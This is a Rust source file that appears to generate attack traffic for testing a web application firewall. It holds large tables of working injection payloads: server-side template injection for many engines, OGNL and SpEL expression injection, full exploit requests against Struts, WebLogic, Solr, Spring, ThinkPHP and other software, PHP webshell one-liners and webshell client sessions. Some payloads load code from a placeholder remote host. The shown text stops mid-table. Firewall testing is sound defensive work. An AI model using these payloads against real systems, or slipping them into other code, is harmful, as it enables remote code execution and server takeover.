//! Templates and code of the language that an application is written in.

use medward_waf::AttackClass;

use super::super::super::attack::{AttackGrammar, payload, request};
use super::super::super::encode::Encoding::{
    self, Base64, Case, Comment, DoublePercent, JsonEscape, Percent, PercentU, Plain, Whitespace,
};
use super::super::super::place::Place;
use super::make::{Hole, cookie, form, header, json, one, other, path, query, whole, xml};

const ORDINARY: &[Encoding] = &[Plain, Percent, Plain, JsonEscape, DoublePercent, PercentU];
const PHP: &[Encoding] = &[Plain, Percent, Base64, JsonEscape, Case, Comment, Whitespace];
const NODE: &[Encoding] = &[Plain, Percent, JsonEscape, Comment, DoublePercent, Whitespace];

pub(super) const ATTACKS: &[AttackGrammar] = &[
    payload("ssti-jinja-and-mako", AttackClass::Ssti, 38, |rng| one(rng, PYTHON), Place::PARAMETERS, ORDINARY),
    payload("ssti-java-templates", AttackClass::Ssti, 38, |rng| one(rng, JAVA_TEMPLATES), Place::INPUTS, ORDINARY),
    payload("ssti-mixed-engines", AttackClass::Ssti, 38, |rng| one(rng, ENGINES), Place::INPUTS, ORDINARY),
    payload("java-expression-values", AttackClass::Java, 38, |rng| one(rng, EXPRESSIONS), Place::PARAMETERS, ORDINARY),
    request("java-struts-years", AttackClass::Java, 36, |rng| whole(rng, STRUTS)),
    request("java-published-holes", AttackClass::Java, 40, |rng| whole(rng, JAVA)),
    payload("php-evaluated-values", AttackClass::Php, 40, |rng| one(rng, PHP_VALUES), Place::PARAMETERS, PHP),
    request("php-shell-sessions", AttackClass::Php, 36, |rng| whole(rng, SESSIONS)),
    request("php-published-holes", AttackClass::Php, 42, |rng| whole(rng, PHP_HOLES)),
    payload("node-evaluated-values", AttackClass::Node, 38, |rng| one(rng, NODE_VALUES), Place::INPUTS, NODE),
    request("node-published-holes", AttackClass::Node, 35, |rng| whole(rng, NODE_HOLES)),
];

const PYTHON: &[&str] = &[
    "{{§n*§n}}",
    "§w{{config}}",
    "{{config.items()}}§w",
    "{{''.__class__.__mro__[1].__subclasses__()[§n]}}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('§c').read()}}",
    "{{cycler.__init__.__globals__.os.popen('§c').read()}}",
    "{{lipsum.__globals__['os'].popen('§c').read()}}§w",
    "{{url_for.__globals__['current_app'].config}}§w",
    "{% for x in ().__class__.__base__.__subclasses__() %}{% if 'warning' in x.__name__ %}{{x()._module.__builtins__['__import__']('os').popen('§c').read()}}{% endif %}{% endfor %}",
    "{{''|attr('__class__')|attr('__base__')|attr('__subclasses__')()|attr('__getitem__')(§n)}}",
    "{{(lipsum|attr('\\x5f\\x5fglobals\\x5f\\x5f'))['os']['popen']('§c')['read']()}}",
    "{{request|attr(request.args.§v)}}",
    "{%set a=dict(po=1,p=2)|join%}{{a}}{{self.__init__.__globals__.__builtins__.open('/§f').read()}}",
    "{%print(get_flashed_messages.__globals__['__builtins__']['eval'](\"__import__('os').popen('§c').read()\"))%}",
    "${__import__('os').popen('§c').read()}",
    "<%import os;x=os.popen('§c').read()%>${x}",
    "{{'§w'*§d}}",
    "{% import os %}{{os.system('§c')}}",
    "{{joiner.__init__.__globals__.os.environ}}§w",
    "${self.module.cache.util.os.system('§c')}",
    "{{settings.SECRET_KEY}}§w",
    "{{namespace['__ini''t__']['__glo''bals__']['o''s']['pop''en']('§c').read()}}",
];

/// FreeMarker, Velocity, Thymeleaf, Pebble, Jinjava, Beetl and what mail and report editors are built on.
const JAVA_TEMPLATES: &[&str] = &[
    "<#assign §v=\"freemarker.template.utility.Execute\"?new()>${§v(\"§c\")}",
    "${\"freemarker.template.utility.ObjectConstructor\"?new()(\"java.lang.ProcessBuilder\",\"§w\").start()}",
    "<#assign v=\"freemarker.template.utility.JythonRuntime\"?new()><@v>import os;os.system(\"§c\")</@v>",
    "${product.getClass().getProtectionDomain().getCodeSource().getLocation().toURI().resolve('/§f').toURL().openStream().readAllBytes()?join(\" \")}",
    "#set($e=\"e\")$e.getClass().forName(\"java.lang.Runtime\").getMethod(\"getRuntime\",null).invoke(null,null).exec(\"§c\")",
    "#set($§v=$class.inspect(\"java.lang.Runtime\").type.getRuntime().exec(\"§c\"))",
    "$§v.getClass().getClassLoader().loadClass(\"java.lang.Runtime\")",
    "__${T(java.lang.Runtime).getRuntime().exec(\"§c\")}__::.x",
    "[[${T(java.lang.Runtime).getRuntime().exec('§c')}]]§w",
    "__${new java.util.Scanner(T(java.lang.Runtime).getRuntime().exec(\"§c\").getInputStream()).next()}__::§w",
    "{% set cmd='§c' %}{% set bytes=(1).TYPE.forName('java.lang.Runtime').methods[6].invoke(null,null).exec(cmd).inputStream.readAllBytes() %}{{(1).TYPE.forName('java.lang.String').constructors[0].newInstance(([bytes]).toArray())}}",
    "{{'a'.getClass().forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('js').eval(\"java.lang.Runtime.getRuntime().exec('§c')\")}}",
    "${@java.lang.Class.forName(\"java.lang.Runtime\").getMethod(\"exec\",@java.lang.Class.forName(\"java.lang.String\"))}§w",
    "#evaluate($request.getParameter('§w'))#set($x=$request.getClass().forName('java.lang.System').getProperties())",
    "${7*§n}#{7*§n}*{7*§n}",
    "*{T(org.apache.commons.io.IOUtils).toString(T(java.lang.Runtime).getRuntime().exec('§c').getInputStream())}",
    "~{::__${T(java.lang.Runtime).getRuntime().exec('§c')}__}§w",
    "<#list .data_model?keys as k>${k}</#list>${.version}§w<#assign c=\"freemarker.template.utility.Execute\"?new()>",
    "#set($x='')##set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('§c')",
    "{{beans.get('§w').class.module.classLoader}}{{variable.getClass().forName('java.lang.Runtime')}}",
];

/// Twig, Smarty, Blade, ERB, Slim, EJS, Handlebars, Nunjucks, Pug, Razor, Go, Angular on the server.
const ENGINES: &[&str] = &[
    "{{['§c']|filter('system')}}",
    "{{['§c',0]|sort('passthru')|join}}",
    "{{_self.env.registerUndefinedFilterCallback(\"exec\")}}{{_self.env.getFilter(\"§c\")}}",
    "{{['cat$IFS/§f']|map('system')|join}}",
    "{system('§c')}§w",
    "{php}echo `§c`;{/php}",
    "{Smarty_Internal_Write_File::writeFile($SCRIPT_NAME,\"<?php passthru($_GET['§w']); ?>\",self::clearConfig())}",
    "{$smarty.template_object->smarty->_getSmartyObj()->display('string:{system(§w)}')}",
    "@php(system('§c'))§w",
    "{!! system('§c') !!}§w",
    "<%= system('§c') %>§w",
    "<%= `§c` %>",
    "<%= IO.popen('§c').readlines() %>",
    "#{system('§c')}§w",
    "<%= File.open('/§f').read %>",
    "<%- global.process.mainModule.require('child_process').execSync('§c') %>",
    "{{#with \"s\" as |string|}}{{#with \"e\"}}{{#with split as |conslist|}}{{this.push (lookup string.sub \"constructor\")}}{{this.push \"return require('child_process').execSync('§c');\"}}{{/with}}{{/with}}{{/with}}",
    "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('§c')\")()}}",
    "#{function(){localLoad=global.process.mainModule.constructor._load;sh=localLoad('child_process').exec('§c')}()}",
    "@{var p=new System.Diagnostics.Process();p.StartInfo.FileName=\"cmd\";p.StartInfo.Arguments=\"/c §k\";p.Start();}",
    "@System.IO.File.ReadAllText(\"C:\\\\Windows\\\\win.ini\")§w",
    "{{.System \"§c\"}}{{printf \"%s\" .§w}}",
    "{{ self.__init__ }}${{§n*§n}}<%= §n*§n %>#{§n*§n}",
    "{if:eval($_POST[§w])}{end if}",
    "{{craft.app.view.evaluateDynamicContent('print(system(\"§c\"));')}}",
    "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('§c')}}",
];

const EXPRESSIONS: &[&str] = &[
    "T(java.lang.Runtime).getRuntime().exec('§c')",
    "#{T(java.lang.Runtime).getRuntime().exec('§c')}",
    "${T(java.lang.System).getenv()}§w",
    "new java.lang.ProcessBuilder({'/bin/sh','-c','§c'}).start()",
    "%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#cmd='§c').(#p=new java.lang.ProcessBuilder({'sh','-c',#cmd})).(#p.start())}",
    "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('§w',§n*§n)}",
    "(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)(@java.lang.Runtime@getRuntime().exec('§c'))",
    "${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(''.getClass().forName('java.lang.Runtime')).exec('§c')}",
    "#{request.getClass().getClassLoader().loadClass('java.lang.Runtime').getMethod('getRuntime').invoke(null).exec('§c')}",
    "${applicationScope}§w${facesContext.getExternalContext().setResponseHeader('X',''.getClass().forName('java.lang.Runtime'))}",
    "''.class.forName('java.nio.file.Files').readAllLines(''.class.forName('java.nio.file.Paths').get('/§f'))",
    "java.lang.Runtime.getRuntime().exec(\"§c\");//§w",
    "new groovy.lang.GroovyShell().evaluate(\"'§c'.execute().text\")",
    "def p=['sh','-c','§c'].execute();p.text",
    "import java.io.*;new BufferedReader(new InputStreamReader(Runtime.getRuntime().exec(\"§c\").getInputStream())).readLine();",
    "Class.forName('javax.script.ScriptEngineManager').newInstance().getEngineByName('JavaScript').eval('java.lang.Runtime.getRuntime().exec(\"§c\")')",
    "$$BCEL$$$l$8b$I$A$A$A$A$A$A$A§t§t§t",
    "(new com.sun.org.apache.bcel.internal.util.ClassLoader()).loadClass('$$BCEL$$$l$8b$I$A§t').newInstance()",
    "T(com.sun.jndi.rmi.registry.RegistryContext).new('10.9.8.7',§n,null).lookup('§w')",
    "@org.apache.ibatis.ognl.Ognl@getValue('@java.lang.Runtime@getRuntime().exec(\"§c\")',null)",
    "mvel:Runtime.getRuntime().exec('§c')/*§w*/",
    "${jexl:''.class.forName('java.lang.Runtime').getRuntime().exec('§c')}",
    "''.getClass().forName('java.la'+'ng.Ru'+'ntime').getMethod('ex'+'ec',''.getClass())",
    "T(String).getClass().forName(\"java.l\"+\"ang.Ru\"+\"ntime\").getMethod(\"ex\"+\"ec\",T(String[])).invoke(null,\"§c\")",
];

/// Struts from 2010 to 2024.
const STRUTS: &[Hole] = &[
    header("/index.action", "Content-Type: %{(#§v='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess=#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear()).(#context.setMemberAccess(#dm)))).(#cmd='§c').(#p=new java.lang.ProcessBuilder({'/bin/bash','-c',#cmd})).(#p.start())}"),
    query("/login.action?«('\\u0023_memberAccess[\\'allowStaticMethodAccess\\']')(meh)»=true&«(aaa)(('\\u0023context[\\'xwork.MethodAccessor.denyMethodExecution\\']\\u003d\\u0023§v')(\\u0023§v\\u003dnew java.lang.Boolean(\"false\")))»&«(asdf)(('\\u0023rt.exec(\"§c\")')(\\u0023rt\\u003d@java.lang.Runtime@getRuntime()))»=1"),
    form("/user.action", "name=§w&age=«'+(#_memberAccess[\"allowStaticMethodAccess\"]=true,@java.lang.Runtime@getRuntime().exec('§c'))+'»&email=§w"),
    query("/example/HelloWorld.action?debug=command&expression=«#_memberAccess[\"allowStaticMethodAccess\"]=true,@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec('§c').getInputStream())»"),
    query("/S2-013/link.action?a=«${#_memberAccess[\"allowStaticMethodAccess\"]=true,#a=@java.lang.Runtime@getRuntime().exec('§c').getInputStream(),#out=@org.apache.struts2.ServletActionContext@getResponse().getWriter(),#out.println('§w'),#out.close()}»"),
    path("/«${#context['xwork.MethodAccessor.denyMethodExecution']=false,#_memberAccess['allowStaticMethodAccess']=true,@java.lang.Runtime@getRuntime().exec('§c')}».action"),
    query("/default.action?redirect:«${#a=new java.lang.ProcessBuilder(new java.lang.String[]{'sh','-c','§c'}).start(),#matt=#context.get('com.opensymphony.xwork2.dispatcher.HttpServletResponse'),#matt.getWriter().println('§w')}»"),
    query("/index.action?redirectAction:«%{new java.lang.ProcessBuilder(new java.lang.String[]{'§w','-a'}).start()}»"),
    query("/memoindex.action?method:«#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,#res=@org.apache.struts2.ServletActionContext@getResponse(),#w=#res.getWriter(),#s=new java.util.Scanner(@java.lang.Runtime@getRuntime().exec('§c').getInputStream()),#w.print(#s.next()),1?#xx:#request.toString»&cmd=§w"),
    path("/orders/3/«%{(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess=#dm).(@java.lang.Runtime@getRuntime().exec('§c'))}»!delete"),
    form("/integration/saveGangster.action", "name=«%{(#_='§w').(#_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(@java.lang.Runtime@getRuntime().exec('§c'))}»&age=1&__checkbox_bustedBefore=true&description=1"),
    path("/struts2-showcase/«${(#ct=#request['struts.valueStack'].context).(#cr=#ct['com.opensymphony.xwork2.ActionContext.container']).(#ou=#cr.getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ou.setExcludedClasses('java.lang.§w')).(@java.lang.Runtime@getRuntime().exec('§c'))}»/actionChain1.action"),
    query("/?id=«%{(#instancemanager=#application[\"org.apache.tomcat.InstanceManager\"]).(#stack=#attr[\"com.opensymphony.xwork2.util.ValueStack.ValueStack\"]).(#bean=#instancemanager.newInstance(\"org.apache.commons.collections.BeanMap\")).(#bean.setBean(#stack)).(#execute=#instancemanager.newInstance(\"freemarker.template.utility.Execute\")).(#execute.exec({\"§c\"}))}»"),
    xml("/orders/§n.xhtml", "<map><entry><jdk.nashorn.internal.objects.NativeString><flags>0</flags><value class=\"com.sun.xml.internal.bind.v2.runtime.unmarshaller.Base64Data\"><dataHandler><dataSource class=\"com.sun.xml.internal.ws.encoding.xml.XMLMessage$XmlDataSource\"><is class=\"javax.crypto.CipherInputStream\"><cipher class=\"javax.crypto.NullCipher\"><serviceIterator class=\"javax.imageio.spi.FilterIterator\"><iter class=\"javax.imageio.spi.FilterIterator\"><iter class=\"java.util.Collections$EmptyIterator\"/><next class=\"java.lang.ProcessBuilder\"><command><string>§w</string></command></next></iter></serviceIterator></cipher></is></dataSource></dataHandler></value></jdk.nashorn.internal.objects.NativeString></entry></map>"),
    query("/login.action?class.classLoader.resources.dirContext.docBase=//10.9.8.7/§w"),
    query("/login.action?Class['classLoader']['resources']['dirContext']['docBase']=«//10.9.8.7/§w»"),
    path("/devmode.action?debug=browser&object=(%23_memberAccess=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS)%3f(%23context[%23parameters.rpsobj[0]].getWriter().println(@java.lang.Runtime@getRuntime().exec(%23parameters.command[0]))):xx.toString.json&rpsobj=com.opensymphony.xwork2.dispatcher.HttpServletResponse&command=§w").at(Place::Query),
];

/// Consoles, gateways, reports and schedulers written in Java.
const JAVA: &[Hole] = &[
    query("/pages/createpage-entervariables.action?queryString=«\\u0027+{Class.forName(\\u0027javax.script.ScriptEngineManager\\u0027).newInstance().getEngineByName(\\u0027JavaScript\\u0027).eval(\\u0027java.lang.Runtime.getRuntime().exec(\\u0022§c\\u0022)\\u0027)}+\\u0027»"),
    form("/template/aui/text-inline.vm", "label=«\\u0027+#request.get(\\u0027.KEY_velocity.struts2.context\\u0027).internalGet(\\u0027ognl\\u0027).findValue(#parameters.x,{})+\\u0027»&x=«@org.apache.struts2.ServletActionContext@getResponse().setHeader('X',(new freemarker.template.utility.Execute()).exec({'§c'}))»"),
    json("/rest/tinymce/1/macro/preview", "{\"contentId\":\"§n\",\"macro\":{\"name\":\"widget\",\"body\":\"\",\"params\":{\"url\":\"http://www.viddler.com.example/v/1\",\"width\":\"1000\",\"_template\":\"https://§h/exp.vm\",\"command\":\"§c\"}}}"),
    form("/secure/ContactAdministrators.jspa", "from=§w%40mail.example&subject=«$i18n.getClass().forName('java.lang.Runtime').getMethod('getRuntime',null).invoke(null,null).exec('§c').waitFor()»&details=§w"),
    json("POST /solr/demo/config", "{\"update-queryresponsewriter\":{\"startup\":\"lazy\",\"name\":\"velocity\",\"class\":\"solr.VelocityResponseWriter\",\"template.base.dir\":\"\",\"solr.resource.loader.enabled\":\"true\",\"params.resource.loader.enabled\":\"true\",\"§w\":1}}"),
    query("/solr/demo/select?q=§d&wt=velocity&v.template=custom&v.template.custom=«#set($x='') #set($rt=$x.class.forName('java.lang.Runtime')) #set($ex=$rt.getRuntime().exec('§c')) $ex.waitFor()»"),
    json("/solr/demo/config", "{\"add-listener\":{\"event\":\"postCommit\",\"name\":\"§w\",\"class\":\"solr.RunExecutableListener\",\"exe\":\"sh\",\"dir\":\"/bin/\",\"args\":[\"-c\",\"§c\"]}}"),
    json("/druid/indexer/v1/sampler", "{\"type\":\"index\",\"spec\":{\"ioConfig\":{\"type\":\"index\",\"firehose\":{\"type\":\"local\",\"baseDir\":\"/etc\",\"filter\":\"passwd\"}},\"dataSchema\":{\"dataSource\":\"§w\",\"parser\":{\"parseSpec\":{\"format\":\"javascript\",\"function\":\"function(value){return {a:new java.util.Scanner(java.lang.Runtime.getRuntime().exec(['sh','-c','§c']).getInputStream()).next()}}\",\"\":{\"enabled\":true}}}}}}"),
    json("/run", "{\"jobId\":§n,\"executorHandler\":\"demoJobHandler\",\"executorParams\":\"demoJobHandler\",\"executorBlockStrategy\":\"COVER_EARLY\",\"executorTimeout\":0,\"logId\":1,\"glueType\":\"GLUE_SHELL\",\"glueSource\":\"§c > /tmp/§w\",\"glueUpdatetime\":1586699003758}"),
    json("/run", "{\"jobId\":§n,\"executorHandler\":\"demoJobHandler\",\"glueType\":\"GLUE_GROOVY\",\"glueSource\":\"class A extends com.xxl.job.core.handler.IJobHandler{ReturnT execute(String s){Runtime.getRuntime().exec('§c')}}\"}"),
    json("/jeecg-boot/jmreport/queryFieldBySql", "{\"sql\":\"select '<#assign ex=\\\"freemarker.template.utility.Execute\\\"?new()>${ex(\\\"§c\\\")}'\",\"type\":\"0\"}"),
    json("/jeecg-boot/jmreport/loadTableData", "{\"dbSource\":\"\",\"sql\":\"select '<#assign v=\\\"freemarker.template.utility.Execute\\\"?new()>${v(\\\"§c\\\")}'\",\"tableName\":\"§w\",\"pageNo\":1}"),
    json("/jeecg-boot/jmreport/testConnection", "{\"id\":\"1\",\"dbType\":\"MYSQL5.5\",\"dbDriver\":\"org.h2.Driver\",\"dbUrl\":\"jdbc:h2:mem:§v;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://§h/x.sql'\",\"dbUsername\":\"a\",\"dbPassword\":\"\"}"),
    json("/api/setup/validate", "{\"token\":\"§t\",\"details\":{\"engine\":\"h2\",\"details\":{\"db\":\"zip:/app/metabase.jar!/sample-database.db;MODE=MSSQLServer;TRACE_LEVEL_SYSTEM_OUT=1\\\\;CREATE TRIGGER §v BEFORE SELECT ON INFORMATION_SCHEMA.TABLES AS $$//javascript\\njava.lang.Runtime.getRuntime().exec('§c')\\n$$--=x\"}}}"),
    json("/service/extdirect", "{\"action\":\"coreui_Component\",\"method\":\"previewAssets\",\"data\":[{\"page\":1,\"filter\":[{\"property\":\"expression\",\"value\":\"''.class.forName('java.lang.Runtime').getRuntime().exec('§c')\"},{\"property\":\"type\",\"value\":\"jexl\"}]}],\"type\":\"rpc\",\"tid\":§n}"),
    json("/rest/beta/repositories/go/group", "{\"name\":\"§w\",\"online\":true,\"storage\":{\"blobStoreName\":\"default\"},\"group\":{\"memberNames\":[\"$\\\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('§c')}\"]}}"),
    json("/actuator/env", "{\"name\":\"spring.datasource.hikari.connection-test-query\",\"value\":\"CREATE ALIAS T§d AS CONCAT('String shellexec(String cmd) throws java.io.IOException {return new java.util.Scanner(Runtime.getRun','time().exec(cmd).getInputStream()).next();}');CALL T5('§c');\"}"),
    json("/env", "{\"spring.cloud.bootstrap.location\":\"http://§h/§w.yml\"}"),
    json("/actuator/env", "{\"name\":\"logging.config\",\"value\":\"http://§h/§w.xml\"}"),
    query("/oauth/authorize?response_type=«${T(java.lang.Runtime).getRuntime().exec(\"§c\")}»&client_id=acme&scope=openid&redirect_uri=http://test"),
    form("POST /users?page=&size=5", "username[«#this.getClass().forName(\"java.lang.Runtime\").getRuntime().exec(\"§c\")»]=§w&password=&repeatedPassword="),
    other("PATCH /customers/§d", "application/json-patch+json", "[{\"op\":\"replace\",\"path\":\"T(java.lang.Runtime).getRuntime().exec(new java.lang.String(new byte[]{105,100}))/§w\",\"value\":\"x\"}]").at(Place::Json),
    header("/?§w=1", "spring.cloud.function.routing-expression: T(java.lang.Runtime).getRuntime().exec('§c')"),
    form("/", "class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&class.module.classLoader.resources.context.parent.pipeline.first.prefix=§v&class.module.classLoader.resources.context.parent.pipeline.first.fileDateFormat="),
    query("/catalog-portal/ui/oauth/verify?error=&deviceUdid=«${\"freemarker.template.utility.Execute\"?new()(\"§c\")}»"),
    query("/weaver/bsh.servlet.BshServlet?bsh.script=«\\u0065\\u0078\\u0065\\u0063(\"§c\");»&bsh.servlet.output=raw"),
    form("/servlet/~ic/bsh.servlet.BshServlet", "bsh.script=«exec(\"cmd.exe /c §k\");»&bsh.servlet.captureOutErr=true&bsh.servlet.output=raw&n=§w"),
    form("/sys/ui/extend/varkind/custom.jsp", "var=«{\"body\":{\"file\":\"/sys/search/sys_search_main/sysSearchMain.do?method=editParam\"}}»&fdParemNames=11&fdParameters=«<java><void class=\"bsh.Interpreter\"><void method=\"eval\"><string>Runtime.getRuntime().exec(\"§c\");</string></void></void></java>»"),
    form("/data/sys-common/dataxml.tmpl", "s_bean=ruleFormulaValidate&script=«Runtime.getRuntime().exec(\"§c\");/*§w*/»&returnType=int&modelName=test"),
    xml("/wls-wsat/CoordinatorPortType11", "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\"><soapenv:Header><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java><object class=\"java.lang.ProcessBuilder\"><array class=\"java.lang.String\" length=\"3\"><void index=\"0\"><string>/bin/bash</string></void><void index=\"1\"><string>-c</string></void><void index=\"2\"><string>§c</string></void></array><void method=\"start\"/></object></java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>"),
    xml("/_async/AsyncResponseService", "<soapenv:Envelope xmlns:soapenv=\"http://schemas.xmlsoap.org/soap/envelope/\" xmlns:wsa=\"http://www.w3.org/2005/08/addressing\" xmlns:asy=\"http://www.bea.com/async/AsyncResponseService\"><soapenv:Header><wsa:Action>§w</wsa:Action><work:WorkContext xmlns:work=\"http://bea.com/2004/06/soap/workarea/\"><java><class><string>com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext</string><void><string>http://§h/x.xml</string></void></class></java></work:WorkContext></soapenv:Header><soapenv:Body><asy:onAsyncDelivery/></soapenv:Body></soapenv:Envelope>"),
    form("/console/consolejndi.portal", "_nfpb=true&_pageLabel=HomePage1&handle=«com.bea.core.repackaged.springframework.context.support.FileSystemXmlApplicationContext(\"http://§h/§w.xml\")»"),
    form("POST /webtools/control/forgotPassword/ProgramExport", "groovyProgram=«\\u0074\\u0068\\u0072\\u006f\\u0077\\u0020new Exception('§c'.execute().text);»"),
    form("/scriptText", "script=«println '§c'.execute().text»&§w=1"),
    json("/api/jolokia/", "{\"type\":\"exec\",\"mbean\":\"org.apache.logging.log4j2:type=§x\",\"operation\":\"setConfigText\",\"arguments\":[\"<Configuration><Appenders><File fileName='webapps/admin/§w.jsp'><PatternLayout pattern='&lt;% Runtime.getRuntime().exec(request.getParameter(1)); %&gt;'/></File></Appenders></Configuration>\",\"utf-8\"]}"),
    json("/_search?pretty", "{\"size\":1,\"script_fields\":{\"§v\":{\"script\":\"java.lang.Math.class.forName(\\\"java.lang.Runtime\\\").getRuntime().exec(\\\"§c\\\").getText()\"}}}"),
    cookie("/", "Cookie: locale=${T(java.lang.Runtime).getRuntime().exec('§c')}%3b§w"),
];

const PHP_VALUES: &[&str] = &[
    "<?php system('§c');?>",
    "<?php @eval($_POST['§w']);?>",
    "<?=`§c`?>",
    "';system('§c');//",
    "${@system('§c')}",
    "{${phpinfo()}}§w",
    "phpinfo();//§w",
    "system(\"§c\");",
    "assert($_REQUEST['§w']);",
    "file_put_contents('§w.php',base64_decode('⟨<?php eval($_POST[1]);?>⟩'));",
    "echo md5(§n);exit();",
    "print(md5(§m));die();",
    "call_user_func('system','§c');",
    "array_map('assert',array('system(\"§c\")'));",
    "${${eval(base64_decode('⟨system(\"§c\");⟩'))}}",
    "\".passthru('§c').\"",
    "1);highlight_file('/§f');//",
    "var_dump(scandir('/'));//§w",
    "readfile('/§f');",
    "($_=chr(115).chr(121).chr(115).chr(116).chr(101).chr(109)).$_('§c');",
    "eval(gzinflate(base64_decode('§t§t')));",
    "create_function('','};system(\"§c\");//');",
    "(new ReflectionFunction('system'))->invoke('§c');",
    "$f='sys'.'tem';$f('§c');",
    "include('php://input');//§w",
    "preg_replace('/§w/e','@eval($_POST[1])','§w');",
    "<script language=\"php\">eval($_POST['§w']);</script>",
    "<? @ini_set('display_errors','0');echo shell_exec($_GET['§w']); ?>",
    "copy('http://§h/§w.txt','§w.php');",
];

/// What comes back to a shell that is there already: choppers and their heirs.
const SESSIONS: &[Hole] = &[
    form(
        "/upload/§v.php",
        "§v=«@eval(base64_decode($_POST[z0]));»&z0=«⟨@ini_set(\"display_errors\",\"0\");@set_time_limit(0);echo(\"->|\");$D=dirname($_SERVER[\"SCRIPT_FILENAME\"]);echo $D;die();⟩»",
    ),
    form(
        "/images/§v.php",
        "cmd=«@ini_set(\"display_errors\", \"0\");@set_time_limit(0);function asenc($out){return $out;};function asoutput(){$output=ob_get_contents();ob_end_clean();echo \"§x\";echo @asenc($output);}ob_start();try{$D=dirname($_SERVER[\"SCRIPT_FILENAME\"]);echo $D;}catch(Exception $e){};asoutput();die();»",
    ),
    form("/plus/mytag_js.php?aid=§n", "guige=«die(md5(§n));»"),
    form(
        "/data/§v.php",
        "pass=«eval(\"Ex\".\"ecute(\"\"On+Error+Resume+Next:Response.Write(\"\"\"\"->|\"\"\"\"):\"\")\");§w»",
    ),
    form(
        "/UploadFiles/§v.aspx",
        "z=«Response.Write(\"->|\");var err:Exception;try{eval(System.Text.Encoding.GetEncoding(936).GetString(System.Convert.FromBase64String(\"⟨var c=new System.Diagnostics.ProcessStartInfo(\"cmd\");⟩\")),\"unsafe\");}catch(err){}Response.Write(\"|<-\");Response.End();»",
    ),
    form(
        "/inc/config_§w.asp",
        "xise=«Execute(\"Execute(\"\"On Error Resume Next:Function bd(byVal s):For i=1 To Len(s) Step 2:c=Mid(s,i,2):bd=bd&Chr(\"\"&H\"\"&c):Next:End Function:Response.Write(bd(\"\"7768\"\"))\"\")\")»",
    ),
    query("/uploads/§v.php?cmd=«§c»&a=«system»&b=«assert($_GET[c]);»"),
    query("/tmp/§v.php?1=«system('§c');»"),
    query("/wp-content/uploads/2024/§v.php?x=«file_put_contents('a.php','<?php eval($_POST[1]);?>');»"),
    form("/api/cache/§v.php", "a=assert&b=«eval(base64_decode('⟨echo \"->|\";system('§c');die();⟩'));»"),
    cookie("/skin/§v.php", "Cookie: a=assert; b=eval(base64_decode('⟨system('§c');⟩'))%3b"),
    header("/js/§v.php", "User-Agent: <?php system('§c'); ?>"),
    header("/index.php", "User-Agentt: zerodiumsystem('§c');\nX-Req: §w"),
    header("/index.php", "Accept-Charset: ⟨system('§c');⟩\nAccept-Encoding: gzip,deflate").spelled(Base64),
    form("/include/§v.php", "ant=«@eval(@str_rot13('flfgrz(\"jubnzv\");'));//§w»"),
    form("/public/§v.php", "ant=«@eval(@base64_decode($_POST['§x']));»&§x=«⟨echo shell_exec('§c');⟩»"),
];

/// Content systems, shops and forums, from DedeCMS to Laravel.
const PHP_HOLES: &[Hole] = &[
    query(
        "/index.php?s=/Index/\\think\\app/invokefunction&function=call_user_func_array&vars[0]=«system»&vars[1][]=«§c»",
    ),
    query(
        "/index.php?s=index/\\think\\Container/invokefunction&function=call_user_func_array&vars[0]=phpinfo&vars[1][]=§n",
    ),
    query("/index.php?s=index/think\\template\\driver\\file/write&cacheFile=§w.php&content=«<?php eval($_POST[1]);?>»"),
    form("/index.php?s=captcha", "_method=__construct&filter[]=system&method=get&server[REQUEST_METHOD]=«§c»&r=§w"),
    form("/index.php?s=index/index", "s=«§c»&_method=__construct&method=POST&filter[]=passthru&n=§n"),
    query(
        "/index.php?m=«--><?=phpinfo();?>»&m=Home&c=Index&a=index&value[_filename]=./Application/Runtime/Logs/Home/21_01_01.log&r=§w",
    ),
    header(
        "/public/index.php?lang=../../../../../../../../usr/local/lib/php/pearcmd&+config-create+/«<?=@eval($_REQUEST['§v']);?>»+/tmp/§v.php",
        "Think-Lang: ../../../../../usr/local/lib/php/pearcmd",
    ),
    query(
        "/index.php?a=fetch&templateFile=public/index&prefix=''&content=«<php>file_put_contents('§w.php','<?php phpinfo();?>')</php>»",
    ),
    query("/plus/download.php?open=1&arrs1[]=99&arrs1[]=102&arrs1[]=103&arrs2[]=«<?php eval($_POST[§w]);?>»"),
    form("/tags.php", "dopost=§w&tag=«{dede:field name='source' runphp='yes'}phpinfo();{/dede:field}»"),
    cookie(
        "/viewthread.php?tid=§n",
        "Cookie: GLOBALS[_DCACHE][smilies][searcharray]=/.*/eui; GLOBALS[_DCACHE][smilies][replacearray]=eval($_POST[§w])%3b",
    ),
    form(
        "/search.php",
        "searchtype=5&order=«}{end if}{if:1)print_r($_POST[func]($_POST[cmd]));//}{end if}»&func=assert&cmd=«system('§c');»",
    ),
    form(
        "/search.php",
